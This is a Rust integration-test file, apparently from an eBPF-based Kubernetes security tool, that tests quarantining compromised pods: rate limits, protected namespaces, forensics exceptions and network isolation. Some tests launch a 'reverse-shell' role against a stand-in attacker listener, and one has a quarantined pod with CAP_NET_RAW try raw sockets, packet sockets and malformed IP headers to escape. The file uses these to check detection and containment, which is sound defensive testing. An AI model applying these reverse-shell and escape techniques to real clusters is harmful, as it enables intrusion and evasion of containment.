/// as soon as the bucket refills; nothing latches.
#[test]
fn quarantine_guardrails_protect_namespaces_and_queue_over_the_rate_limit() {
    if !require_kernel("quarantine_guardrails_protect_namespaces_and_queue_over_the_rate_limit") {
        return;
    }
    let lab = TestLab::up("qguard", PODS);
    let pins = Pins::new(&lab.name);
    let state_dir = temp_state_dir(&lab.name);
    // One per second at most on the node, a burst of one: the second waits about a second.
    let policy = ResponsePolicy { max_quarantines_per_minute: 60, ..ResponsePolicy::default() };
    let (_ebpf, service) = enforce(&lab, &pins, &state_dir, policy.clone());
    service.set_policy(ResponsePolicy { max_quarantines_per_minute: 1, ..policy.clone() }).expect("one token");
    service.set_policy(policy).expect("60 per minute, tokens kept");

    let d = service.respond(&finding("kube-system", "dns", "reverse_shell", "alert-g-1"));
    assert_eq!(d.outcome, Outcome::Suppressed, "{d:?}");
    assert!(d.reason.contains("protected"), "{}", d.reason);

    assert_eq!(service.respond(&finding("shop", "a", "reverse_shell", "alert-g-2")).outcome, Outcome::Quarantined);
    let d = service.respond(&finding("shop", "b", "reverse_shell", "alert-g-3"));
    assert_eq!(d.outcome, Outcome::Pending, "{d:?}");
    assert!(d.reason.contains("rate limit"), "{}", d.reason);
    assert_eq!(service.pending().len(), 1);
    assert_eq!(service.status().pending, 1);

    // The queue is applied as the bucket refills.
    let deadline = Instant::now() + Duration::from_secs(10);
    let applied = loop {
        let outcomes = service.apply_due();
        if !outcomes.is_empty() {
            break outcomes;
        }
        assert!(Instant::now() < deadline, "the queued quarantine was never applied");
        std::thread::sleep(Duration::from_millis(50));
    };
    assert_eq!(applied.len(), 1);
    assert_eq!((applied[0].decision.pod.as_str(), applied[0].decision.outcome), ("shop/b", Outcome::Quarantined));
    assert!(applied[0].queued_for_seconds > 0.0);
    assert!(service.pending().is_empty());
    // Both a and b are cut off in the kernel; dns (protected) keeps its connectivity.
    assert_reach(&probe(&lab), |from, to| involves("shop/a")(from, to) && involves("shop/b")(from, to));
    let _ = std::fs::remove_dir_all(&state_dir);
}

/// (a) through the real pipeline: a reverse shell in pod a is seen by the probes (dup and exec
/// events), judged by the default rule pack (`reverse_shell`, action quarantine), and the
/// responder isolates the pod: the open connection to b stops passing data, new connections
/// both ways fail, the other pods keep their connectivity.
#[test]
fn quarantine_reverse_shell_through_probes_and_rules() {
    use palisade::events::decode::decode;
    use palisade::events::enrich::{EndpointIndex, PodRef, ProcCache, enrich};
    use palisade::events::input::{Clock, to_input};
    use palisade::events::kind::EventKind;
    use palisade::probes::loader::{self, LoadOptions};
    use palisade::rules::RulePack;
    use std::os::fd::AsRawFd as _;

    if !require_kernel("quarantine_reverse_shell_through_probes_and_rules") {
        return;
    }
    let lab = TestLab::up("qrevsh", PODS);
    let pins = Pins::new(&lab.name);
    let state_dir = temp_state_dir(&lab.name);
    let (_dp, service) = enforce(&lab, &pins, &state_dir, ResponsePolicy::default());

    let rules_dir = Path::new(env!("CARGO_MANIFEST_DIR")).join("../rules");
    let pack = RulePack::load(&rules_dir).unwrap_or_else(|e| panic!("rules: {}", e.lines().join("\n")));
    let a_id = palisade::lab::cgroup_id(&lab.pod_cgroup_dir("shop/a").expect("dir")).expect("id");
    let options = LoadOptions::default();
    let mut probes = loader::load(&options).expect("load probes");
    probes.attach_all(&options).expect("attach probes");
    let mut ring = probes.take_ring_buffer().expect("ring");
    let mut kinds: Vec<EventKind> = pack.subscribed_types().into_iter().filter_map(|t| EventKind::from_name(t.as_str())).collect();
    kinds.extend([EventKind::Exec, EventKind::Exit]);
    loader::set_enabled_kinds(&mut probes.ebpf, &kinds).expect("kinds");
    loader::monitor_cgroup(&mut probes.ebpf, a_id, 0).expect("monitor");

    let echo = Role::in_pod(&lab, "shop/b", "echo-server", &ECHO_PORT.to_string());
    assert_eq!(echo.next(Duration::from_secs(10)), "listening");
    let attacker = Role::in_pod(&lab, "shop/b", "sink-server", "7071");
    assert_eq!(attacker.next(Duration::from_secs(10)), "listening");
    let mut client = Role::in_pod(&lab, "shop/a", "client", &format!("198.18.7.2:{ECHO_PORT}"));
    assert_eq!(client.next(Duration::from_secs(10)), "connected");
    assert_eq!(client.send("before"), "ok");

    let _shell = Role::in_pod(&lab, "shop/a", "reverse-shell", "198.18.7.2:7071");

    // The daemon's pipeline, inline: ring buffer -> decode -> enrich -> input -> rules -> responder.
    let mut endpoints = EndpointIndex::default();
    endpoints.insert(a_id, PodRef { namespace: "shop".into(), name: "a".into(), labels: Default::default(), service_account: None });
    let mut cache = ProcCache::new(256);
    let clock = Clock::new();
    let deadline = Instant::now() + Duration::from_secs(20);
    let mut seen = Vec::new();
    let decision = 'pipeline: loop {
        assert!(Instant::now() < deadline, "no quarantine finding; rule hits seen: {seen:?}");
        let mut pfd = libc::pollfd { fd: ring.as_raw_fd(), events: libc::POLLIN, revents: 0 };
        // SAFETY: one valid pollfd.
        unsafe { libc::poll(&mut pfd, 1, 200) };
        while let Some(item) = ring.next() {
            let Ok(event) = decode(&item) else { continue };
            drop(item);
            let enriched = enrich(event, &endpoints, &mut cache);
            let input = to_input(&enriched, &clock, "test-node");
            for hit in pack.evaluate(&input).expect("evaluate") {
                seen.push(hit.rule_id.clone());
                if hit.action == Action::Quarantine && hit.rule_id == "reverse_shell" {
                    break 'pipeline service.respond(&Finding {
                        hit,
                        namespace: "shop".into(),
                        name: "a".into(),
                        alert_id: "alert-revsh-1".into(),
                    });
                }
            }
        }
    };
    assert_eq!(decision.outcome, Outcome::Quarantined, "{decision:?}");

    let reply = client.send("after");
    assert!(reply.starts_with("err"), "the open connection still passes data: {reply}");
    assert_reach(&probe(&lab), involves("shop/a"));
    assert_eq!(service.list().iter().map(|r| r.rule_id.as_str()).collect::<Vec<_>>(), ["reverse_shell"]);
    service.release("shop/a", "test over", "test").expect("release");
    let _ = std::fs::remove_dir_all(&state_dir);
}

/// Optional forensics exception: a quarantined pod still reaches (and is reached from) the
/// configured peers, and nothing else.
#[test]
fn quarantine_forensics_exception_keeps_configured_peers_reachable() {
    if !require_kernel("quarantine_forensics_exception_keeps_configured_peers_reachable") {
        return;
    }
    let lab = TestLab::up("qforen", PODS);
    let pins = Pins::new(&lab.name);
    let state_dir = temp_state_dir(&lab.name);
    // Port-restricted: the probe's port is the service side in both directions, and the
    // replies of each session must pass too.
    let policy = ResponsePolicy {
        forensics: vec![palisade::quarantine::ForensicsException { cidr: "198.18.7.2/32".into(), port: Some(PROBE_PORT), protocol: Some(Protocol::Tcp) }],
        ..ResponsePolicy::default()
    };
    let (_ebpf, service) = enforce(&lab, &pins, &state_dir, policy);
    assert_eq!(service.respond(&finding("shop", "a", "reverse_shell", "alert-f-1")).outcome, Outcome::Quarantined);
    let exempt = |x: &str, y: &str| (x == "shop/a" && y == "shop/b") || (x == "shop/b" && y == "shop/a");
    assert_reach(&probe(&lab), |from, to| involves("shop/a")(from, to) || exempt(from, to));

    // The exception is for that port only: another port configured, a and b are cut off.
    let other_port = ResponsePolicy {
        forensics: vec![palisade::quarantine::ForensicsException { cidr: "198.18.7.2/32".into(), port: Some(PROBE_PORT + 1), protocol: Some(Protocol::Tcp) }],
        ..ResponsePolicy::default()
    };
    service.set_policy(other_port).expect("reload");
    assert_reach(&probe(&lab), involves("shop/a"));

    // Hot reload without the exception: b is cut off from a as well.
    service.set_policy(ResponsePolicy::default()).expect("reload");
    assert_reach(&probe(&lab), involves("shop/a"));
    let _ = std::fs::remove_dir_all(&state_dir);
}

// ---- escape paths (issue 10) -----------------------------------------------------------------

const ESCAPE_PODS: &str = r#"
endpoints:
  - namespace: shop
    name: a
    ips: [198.18.9.1, "2001:db8::9:1"]
    cgroup: /palisade-test/{lab}/shop/a
  - namespace: shop
    name: b
    ips: [198.18.9.2, "2001:db8::9:2"]
    cgroup: /palisade-test/{lab}/shop/b
"#;
const ESCAPE_PORT: u16 = 7171;

/// Drop records of the datapath (SEG_EVENTS), taken out of the object.
struct DropRecords {
    ring: aya::maps::RingBuf<aya::maps::MapData>,
}

impl DropRecords {
    fn take(ebpf: &mut aya::Ebpf) -> DropRecords {
        palisade::segmentation::datapath::Datapath::set_denied_events(ebpf, true, 0).expect("enable drop records");
        let map = ebpf.take_map(palisade_common::MAP_SEG_EVENTS).expect("SEG_EVENTS");
        DropRecords { ring: aya::maps::RingBuf::try_from(map).expect("ring buffer") }
    }

    /// (reason, path) of every record about `cgroup_id` that arrives within `window`.
    fn collect(&mut self, cgroup_id: u64, window: Duration) -> Vec<(u8, &'static str)> {
        let deadline = Instant::now() + window;
        let mut out = Vec::new();
        while Instant::now() < deadline {
            while let Some(item) = self.ring.next() {
                let Some(v) = palisade::segmentation::datapath::decode_verdict(&item) else { continue };
                if v.header.cgroup_id == cgroup_id {
                    out.push((v.reason, palisade::segmentation::datapath::path_name(v.path)));
                }
            }
            std::thread::sleep(Duration::from_millis(20));
        }
        out
    }
}

/// Asks the receiver what arrived; repeats until `want` holds or `within` passes.
fn seen_tags(receiver: &mut Role, within: Duration, want: impl Fn(&BTreeSet<String>) -> bool) -> BTreeSet<String> {
    let deadline = Instant::now() + within;
    let mut all = BTreeSet::new();
    loop {
        let line = receiver.send("report");
        let list = line.strip_prefix("seen ").unwrap_or_else(|| panic!("receiver said {line:?}"));
        all.extend(list.split(',').filter(|t| *t != "-").map(String::from));
        if want(&all) || Instant::now() >= deadline {
            return all;
        }
        std::thread::sleep(Duration::from_millis(100));
    }
}


/// Runs a role inside the lab's own network namespace (the bridge side of every pod's veth).
fn in_lab_netns(lab: &TestLab, role: &str, args: &str) -> Role {
    use std::os::fd::AsRawFd as _;
    use std::os::unix::process::CommandExt as _;
    let netns = std::fs::File::open(Path::new("/run/netns").join(lab.lab_netns())).expect("open the lab netns");
    let mut cmd = Command::new(std::env::current_exe().expect("current exe"));
    // SAFETY: one syscall on a descriptor opened before the fork.
    unsafe {
        cmd.pre_exec(move || {
            if libc::setns(netns.as_raw_fd(), libc::CLONE_NEWNET) != 0 {
                return Err(std::io::Error::last_os_error());
            }
            Ok(())
        });
    }
    Role::spawn(role_command(role, args, cmd))
}

/// The kinds (`UDP`, `RAW`, ...) the sender's `sent KIND=ok ...` line reports as sent.
fn sent_kinds(sent: &str) -> BTreeSet<String> {
    sent.trim_start_matches("sent ")
        .split_whitespace()
        .filter_map(|r| r.strip_suffix("=ok"))
        .map(String::from)
        .collect()
}

fn tags(kinds: &BTreeSet<String>, round: u32) -> BTreeSet<String> {
    kinds.iter().map(|k| format!("{k}-{round}")).collect()
}

/// Whether the packet-socket hook (lsm_cgroup) got attached to pod a: its link pin exists.
fn packet_sockets_refused(lab: &TestLab, pins: &Pins) -> bool {
    let id = palisade::lab::cgroup_id(&lab.pod_cgroup_dir("shop/a").expect("dir")).expect("id");
    datapath::link_pin(&pins.links(), id, "sock-create").exists()
}

/// The MAC address of a pod's eth0.
fn pod_mac(lab: &TestLab, pod: &str) -> String {
    let netns = &lab.pod(pod).expect("pod").netns;
    let out = Command::new("ip").args(["-j", "-n", netns, "link", "show", "eth0"]).output().expect("ip link");
    let links: serde_json::Value = serde_json::from_slice(&out.stdout).expect("ip -j output");
    links[0]["address"].as_str().expect("address").to_string()
}

/// A quarantined pod with CAP_NET_RAW, its sockets opened before the quarantine, tries every way
/// out: a UDP datagram, a hand-built IPv4/UDP packet on a raw socket, a malformed IPv4 header
/// (IHL 3: refused by the kernel's raw socket on 6.x, so it goes out on the packet socket), an
/// IP version that is neither 4 nor 6, an IPv6 neighbour solicitation, and Ethernet frames
/// written to an AF_PACKET socket addressed to the other pod's MAC (IPv4/UDP, and IHL 3). Two
/// captures watch: the wire right out of pod a (its host-side veth) and pod b's `eth0`. Before
/// the quarantine every attempt reaches a's wire and those the lab bridge forwards reach b (so
/// the test can fail); afterwards neither sees anything, new packet and raw sockets are refused
/// with EPERM, and the drop records name each path that was stopped.
#[test]
fn quarantined_pod_with_cap_net_raw_gets_nothing_out() {
    if !require_kernel("quarantined_pod_with_cap_net_raw_gets_nothing_out") {
        return;
    }
    let lab = TestLab::up("qescape", ESCAPE_PODS);
    let pins = Pins::new(&lab.name);
    let state_dir = temp_state_dir(&lab.name);
    let (mut ebpf, service) = enforce(&lab, &pins, &state_dir, ResponsePolicy::default());
    let mut records = DropRecords::take(&mut ebpf);
    let a_id = palisade::lab::cgroup_id(&lab.pod_cgroup_dir("shop/a").expect("dir")).expect("id");

    let mut at_b = Role::in_pod(&lab, "shop/b", "escape-receiver", &format!("eth0 {ESCAPE_PORT}"));
    assert_eq!(at_b.next(Duration::from_secs(10)), "listening");
    let a_veth = lab.pod("shop/a").expect("pod a").host_veth.clone();
    let mut out_of_a = in_lab_netns(&lab, "escape-receiver", &format!("{a_veth} 0"));
    assert_eq!(out_of_a.next(Duration::from_secs(10)), "listening");
    let b_mac = pod_mac(&lab, "shop/b");
    let mut sender =
        Role::in_pod(&lab, "shop/a", "escape-sender", &format!("198.18.9.2 2001:db8::9:2 {ESCAPE_PORT} {b_mac}"));
    assert_eq!(sender.next(Duration::from_secs(10)), "ready");

    // Control: without quarantine the attempts leave a, and the well-formed ones reach b.
    let sent = sender.send("send 1");
    let kinds = sent_kinds(&sent);
    for must in ["UDP", "RAW", "VER", "NS", "PKT", "PKTIHL"] {
        assert!(kinds.contains(must), "the {must} attempt was not even sent: {sent}");
    }
    let left_a = seen_tags(&mut out_of_a, Duration::from_secs(5), |s| tags(&kinds, 1).is_subset(s));
    assert!(tags(&kinds, 1).is_subset(&left_a), "before the quarantine only {left_a:?} left a ({sent})");
    let well_formed: BTreeSet<String> = ["UDP", "RAW", "NS", "PKT"].iter().map(|k| k.to_string()).collect();
    let reached_b = seen_tags(&mut at_b, Duration::from_secs(5), |s| tags(&well_formed, 1).is_subset(s));
    assert!(tags(&well_formed, 1).is_subset(&reached_b), "before the quarantine only {reached_b:?} reached b ({sent})");
    let opened = sender.send("open");
    assert!(opened.contains("PACKET=ok") && opened.contains("RAW4=ok"), "before the quarantine: {opened}");

    let decision = service.respond(&finding("shop", "a", "reverse_shell", "alert-escape"));
    assert_eq!(decision.outcome, Outcome::Quarantined, "{decision:?}");
    let _ = records.collect(a_id, Duration::from_millis(50));

    let sent = sender.send("send 2");
    assert!(sent.starts_with("sent "), "{sent}");
    let opened = sender.send("open");
    let mut refused = vec!["RAW4", "RAW6"];
    if packet_sockets_refused(&lab, &pins) {
        refused.extend(["PACKET", "DGRAMPACKET"]);
    }
    for kind in refused {
        assert!(opened.contains(&format!("{kind}=errno{}", libc::EPERM)), "a quarantined pod opened a {kind} socket: {opened}");
    }
    assert!(opened.contains("UDP=ok"), "ordinary sockets stay possible (the datapath stops their packets): {opened}");
    let paths = records.collect(a_id, Duration::from_millis(800));
    // A capture on a's host-side veth taps frames as they arrive there, before the TC backstop
    // on that interface judges them: the packet-socket frames show up there by construction, and
    // b's eth0 (and the backstop's drop records) say whether they went further.
    let left_a = seen_tags(&mut out_of_a, Duration::ZERO, |_| true);
    let escaped: Vec<&String> = left_a.iter().filter(|t| t.ends_with("-2") && !t.starts_with("PKT")).collect();
    assert!(escaped.is_empty(), "quarantined pod a got {escaped:?} out to its wire ({sent})");
    let reached_b = seen_tags(&mut at_b, Duration::ZERO, |_| true);
    let escaped: Vec<&String> = reached_b.iter().filter(|t| t.ends_with("-2")).collect();
    assert!(escaped.is_empty(), "quarantined pod a got {escaped:?} to b ({sent})");
    let quarantine_paths: BTreeSet<&str> =
        paths.iter().filter(|(reason, _)| *reason == palisade_common::REASON_QUARANTINE).map(|(_, path)| *path).collect();
    for want in ["ip", "raw_socket", "unparsed", "neighbour_discovery", "backstop", "socket_create"] {
        assert!(quarantine_paths.contains(want), "no quarantine drop record on path {want}; records: {paths:?} ({sent}; {opened})");
    }
    let _ = std::fs::remove_dir_all(&state_dir);
}
